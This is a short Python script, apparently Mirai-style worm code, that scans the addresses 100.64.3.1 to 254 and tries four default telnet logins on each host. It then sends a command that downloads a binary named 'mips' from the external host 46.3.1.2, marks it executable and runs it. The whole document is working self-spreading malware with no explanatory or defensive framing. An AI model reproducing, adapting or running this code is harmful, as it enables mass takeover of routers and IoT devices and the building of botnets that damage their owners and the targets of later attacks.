import telnetlib
CREDS = [("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888")]
def infect(ip):
    for u, p in CREDS:
        t = telnetlib.Telnet(ip, 23, 4)
        t.read_until(b"login: "); t.write(u.encode() + b"\n")
        t.read_until(b"Password: "); t.write(p.encode() + b"\n")
        t.write(b"wget http://46.3.1.2/mips -O /tmp/a; chmod 777 /tmp/a; /tmp/a\n")
for i in range(1, 255):
    infect("100.64.3.%d" % i)
